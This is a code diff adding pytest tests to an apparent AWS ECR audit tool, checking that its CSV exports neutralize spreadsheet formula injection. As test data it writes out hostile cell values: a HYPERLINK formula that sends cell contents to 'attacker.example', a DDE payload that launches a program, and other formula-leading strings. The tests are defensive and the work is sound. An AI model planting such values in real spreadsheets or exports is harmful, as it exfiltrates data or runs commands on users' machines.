@@ -14,7 +14,7 @@ import pandas as pd
 import pytest
 
 import ecr_audit.sandbox as sandbox_pkg
-from ecr_audit import load, report
+from ecr_audit import Inventory, load, report
 from ecr_audit.cli import main
 from ecr_audit.collect.errors import scrub
 from ecr_audit.sandbox.demo import XSS_SID, XSS_TAG
@@ -114,3 +114,39 @@ def test_findings_exports_are_data_untrusted_text_round_trips_and_no_cell_is_a_s
     assert (inv.repository_tags["value"] == XSS_TAG).any()
     policies = "".join(pd.concat([inv.repository_policies["policy_text"], inv.registry_policies["policy_text"]]))
     assert XSS_SID in policies
+
+
+def test_formula_like_text_from_aws_is_neutralized_in_every_csv_export(tmp_path, monkeypatch):
+    """A resource tag value, a policy Sid or an error message starting with = + - @ must not
+    become a spreadsheet formula in the findings CSV or a report table's CSV."""
+    from ecr_audit import notebook as nb
+    from ecr_audit.export import safe_frame
+    evil = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
+    df = pd.DataFrame({"tag": [evil, "+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "safe"],
+                       "cat": pd.Series([evil, "ok", "ok", "ok", "ok", "ok"], dtype="category"),
+                       "tags": [[evil], ["a", "b"], [], ["x"], ["y"], ["z"]],
+                       "n": [-1, 2, 3, 4, 5, 6]})
+    out = safe_frame(df)
+    assert out["tag"].tolist() == ["'" + evil, "'+1", "'-cmd|' /C calc'!A0", "'@SUM(A1)", "'\tx", "safe"]
+    assert out["cat"].iloc[0] == "'" + evil and out["tags"].tolist()[:2] == ["'" + evil, "a, b"]
+    assert out["n"].tolist() == [-1, 2, 3, 4, 5, 6]                     # numbers are numbers
+    monkeypatch.setenv(nb.REPORT_DIR_ENV, str(tmp_path))
+    nb.table(df, name="t")
+    cells = [c for row in csv.reader(open(next(tmp_path.glob("*.csv")))) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t")], cells
+    assert "-1" in cells                                                  # a negative number stays one
+
+
+def test_findings_csv_goes_through_the_formula_safe_writer(demo_snapshot, capsys, monkeypatch):
+    from ecr_audit import findings
+    real = findings.findings
+
+    def with_hostile_cell(inv):
+        f = real(inv)
+        f.loc[f.index[0], "details"] = "=1+1"             # e.g. text quoted from a policy
+        return f
+
+    monkeypatch.setattr(findings, "findings", with_hostile_cell)
+    assert main(["findings", str(demo_snapshot), "--format", "csv"]) == 0
+    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out)) for c in row]
+    assert "'=1+1" in cells and not [c for c in cells if c[:1] in ("=", "+", "@")]
